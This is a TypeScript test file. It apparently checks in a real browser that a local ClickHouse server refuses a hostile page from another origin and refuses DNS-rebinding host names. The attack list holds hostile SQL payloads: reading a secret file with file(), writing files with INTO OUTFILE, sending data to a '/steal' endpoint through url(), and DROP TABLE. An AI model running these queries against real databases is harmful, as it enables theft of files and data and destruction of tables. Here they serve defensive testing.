import assert from 'node:assert/strict'
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { rm } from 'node:fs/promises'
import { createServer } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type TestContext, test } from 'node:test'
import type { Page } from 'playwright-core'
import { sharedChromium } from '../support/chromium.ts'
import { startTestClickHouse } from '../support/clickhouse.ts'
import { fetchClickHouse } from '../support/fetch-clickhouse.ts'

/* A page of another site, in a real browser, against the ClickHouse of this machine. */

const browser = await sharedChromium()
const reason = typeof browser === 'string' ? browser : undefined

const SECRET = 'the secret of this machine'

const SCRIPT = readFileSync(new URL('hostile-page.js', import.meta.url))

interface Site {
  readonly page: Page
  readonly url: string
  /** Data that the site's server received, and so has left. */
  readonly stolen: string[]
}

async function openSite(t: TestContext, host: string): Promise<Site> {
  const stolen: string[] = []
  const server = createServer((req, res) => {
    if (req.url?.startsWith('/steal')) stolen.push(req.url)
    if (req.url === '/script') res.setHeader('Content-Type', 'text/javascript').end(SCRIPT)
    else res.setHeader('Content-Type', 'text/html').end('<body><script src="/script"></script></body>')
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  t.after(() => server.close())
  const url = `http://${host}:${(server.address() as { port: number }).port}/`
  if (typeof browser === 'string') throw new Error(browser)
  const context = await browser.newContext()
  t.after(() => context.close())
  const page = await context.newPage()
  await page.goto(url)
  return { page, url, stolen }
}

/** Runs a function of the page's script. */
function call<T>(page: Page, name: 'attack' | 'leave', ...args: unknown[]): Promise<T> {
  return page.evaluate<T>(`${name}(${args.map((arg) => JSON.stringify(arg)).join(', ')})`)
}

for (const host of ['127.0.0.1', 'localhost']) {
  test(`a page of ${host} on another port reads, writes and drops nothing`, { skip: reason }, async (t) => {
    const { url, rows } = await startTestClickHouse(t)
    const folder = mkdtempSync(join(tmpdir(), 'ipid-browser-'))
    t.after(() => rm(folder, { recursive: true, force: true }))
    writeFileSync(join(folder, 'secret'), SECRET)
    const written = join(folder, 'written')
    const sql = (body: string) => fetchClickHouse(url, { database: 'ipid' }, { body })
    await sql('CREATE TABLE kept (a String) ENGINE = MergeTree ORDER BY a')
    await sql(`INSERT INTO kept VALUES ('${SECRET}')`)

    const site = await openSite(t, host)
    const read = await call<string[]>(site.page, 'attack', url, [
      'SELECT a FROM kept',
      `SELECT file('${folder}/secret')`,
      `SELECT 1 INTO OUTFILE '${written}'`,
      `INSERT INTO FUNCTION file('${written}', CSV, 'a Int8') SELECT 1`,
      `INSERT INTO FUNCTION url('${site.url}steal?', CSV, 'a Int8') SELECT 1`,
      `SELECT * FROM url('${site.url}steal?read', LineAsString)`,
      "INSERT INTO kept VALUES ('of the page')",
      'DROP TABLE kept',
    ])
    assert.ok(read.length > 0 && read.every((text) => text === ''), read.join('\n'))
    assert.deepEqual(await rows('SELECT a FROM kept'), [{ a: SECRET }])
    assert.deepEqual(site.stolen, [])
    assert.ok(!existsSync(written))
    await call(site.page, 'leave', `${url}/?query=${encodeURIComponent('SELECT 1')}`)
    await site.page.waitForURL(`${url}/**`)
    assert.match(await site.page.content(), /AUTHENTICATION_FAILED/)
  })
}

test('a foreign host name that resolves to this machine is refused', { skip: reason }, async (t) => {
  const { url } = await startTestClickHouse(t)
  const { port } = new URL(url)
  const site = await openSite(t, '127.0.0.1')
  const reply = await site.page.goto(`http://rebound.localhost:${port}/?query=SELECT+1`)
  assert.equal(reply?.status(), 403)
})

test('a typed address is answered', { skip: reason }, async (t) => {
  const { url } = await startTestClickHouse(t)
  const site = await openSite(t, '127.0.0.1')
  const reply = await site.page.goto(`${url}/?query=SELECT+6*7+AS+n+FORMAT+JSON`)
  assert.match((await reply?.text()) ?? '', /"n": 42/)
})
